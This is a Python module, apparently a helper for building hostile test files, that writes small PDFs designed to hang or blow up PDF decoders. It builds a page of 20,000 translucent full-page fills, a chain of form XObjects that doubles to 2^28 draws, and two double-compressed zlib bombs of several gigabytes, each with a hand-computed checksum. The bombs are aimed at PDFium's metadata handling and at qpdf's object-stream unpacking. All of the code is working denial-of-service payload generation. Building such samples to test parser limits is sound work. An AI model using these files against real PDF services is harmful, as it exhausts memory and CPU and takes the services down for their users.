"""Files of a few kilobytes that keep a PDF decoder busy for ever, or let it grow out of bounds."""

import zlib
from pathlib import Path

import pikepdf


def endless(path: Path) -> None:
    """Write a PDF that lays twenty thousand see-through sheets over a whole page."""
    pdf = pikepdf.new()
    sheet = pikepdf.Dictionary(ca=0.5, BM=pikepdf.Name.Luminosity)
    resources = pikepdf.Dictionary(ExtGState=pikepdf.Dictionary(G=sheet))
    _page(pdf, resources, b"/G gs 0.9 g " + b"0 0 600 800 re f " * 20_000)
    _save(pdf, path)


def bloated(path: Path, depth: int = 28) -> None:
    """Write a PDF whose page draws a form that draws another twice, and so on: 2 to the power of *depth* objects."""
    pdf = pikepdf.new()
    form = _form(pdf, b"0 0 1 1 re f", pikepdf.Dictionary())
    for _ in range(depth):
        form = _form(pdf, b"/F Do /F Do", pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form)))
    _page(pdf, pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form)), b"/F Do")
    _save(pdf, path)


def packed_metadata(path: Path, blocks: int = 384) -> None:
    """Write a PDF of one page whose metadata, packed twice, are *blocks* of 16 MB: PDFium unpacks them at the start."""
    metadata = b"/Type /Metadata /Subtype /XML"
    _by_hand(path, b"/Metadata 5 0 R", _stream(metadata, _packed_twice(b"", blocks)), b"null")


def packed_object(path: Path, blocks: int = 384) -> None:
    """Write a PDF of one page with an object that nobody asks for, in a stream as above: qpdf does when it writes."""
    stream = b"/Type /ObjStm /N 1 /First 4"
    _by_hand(path, b"/Extra 6 0 R", _stream(stream, _packed_twice(b"6 0 <<>>", blocks)), None)


def _by_hand(path: Path, root: bytes, fifth: bytes, sixth: bytes | None) -> None:
    """Write a PDF as it is given, which qpdf would unpack: without the *sixth* object, that lies in the fifth."""
    objects = [
        b"<</Type /Catalog /Pages 2 0 R %b>>" % root,
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R>>",
        b"<</Length 29>>\nstream\n0 0 1 rg 100 100 300 200 re f\nendstream",
        fifth,
    ] + ([sixth] if sixth else [])
    content, places = b"%PDF-1.7\n", [bytes(7)]
    for number, each in enumerate(objects, start=1):
        places.append(b"\1" + len(content).to_bytes(4, "big") + b"\0\0")
        content += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    places += [] if sixth else [b"\2" + (5).to_bytes(4, "big") + b"\0\0"]
    places.append(b"\1" + len(content).to_bytes(4, "big") + b"\0\0")
    table = b"7 0 obj\n<</Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d>>\nstream\n%b\nendstream\nendobj\n"
    hidden = path.with_name("." + path.name)
    rows = b"".join(places)
    hidden.write_bytes(content + table % (len(rows), rows) + b"startxref\n%d\n%%%%EOF\n" % len(content))
    hidden.rename(path)


def _stream(entries: bytes, data: bytes) -> bytes:
    filters = b"/Filter [/FlateDecode /FlateDecode]"
    return b"<<%b %b /Length %d>>\nstream\n%b\nendstream" % (entries, filters, len(data), data)


def _packed_twice(head: bytes, blocks: int) -> bytes:
    """Return *head* and so many blocks of 16 MB of NULs, packed by zlib twice: the blocks pack alike (RFC 1950)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(16 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    known = zlib.adler32(head)
    low = known & 0xFFFF
    high = (known >> 16) + blocks * (16 << 20) * low
    checksum = (high % 65521) << 16 | low
    return zlib.compress(b"\x78\xda" + first + block * blocks + b"\x03\0" + checksum.to_bytes(4, "big"), 9)


def _form(pdf: pikepdf.Pdf, content: bytes, resources: pikepdf.Dictionary) -> pikepdf.Stream:
    form = pdf.make_stream(content)
    form.Type, form.Subtype, form.Resources = pikepdf.Name.XObject, pikepdf.Name.Form, resources
    form.BBox = pikepdf.Array([0, 0, 600, 800])
    return form


def _page(pdf: pikepdf.Pdf, resources: pikepdf.Dictionary, content: bytes) -> None:
    packed = pikepdf.Stream(pdf, zlib.compress(content, 9))
    packed.Filter = pikepdf.Name.FlateDecode
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page, MediaBox=pikepdf.Array([0, 0, 600, 800]), Resources=resources, Contents=packed
    )
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))


def _save(pdf: pikepdf.Pdf, path: Path) -> None:
    hidden = path.with_name("." + path.name)
    pdf.save(hidden)
    hidden.rename(path)
